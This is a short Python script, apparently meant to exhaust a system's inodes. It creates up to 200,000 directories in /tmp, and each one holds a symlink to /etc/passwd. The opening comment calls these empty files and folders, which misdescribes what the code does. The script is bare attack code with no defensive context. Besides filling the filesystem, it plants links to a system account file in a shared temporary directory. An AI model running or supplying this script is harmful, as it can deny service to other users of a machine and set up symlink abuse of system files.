# Makes empty files and folders until no inode is left.
import os

for number in range(200_000):
    try:
        os.mkdir(f"/tmp/{number}")
        os.symlink("/etc/passwd", f"/tmp/{number}/link")
    except OSError:
        break
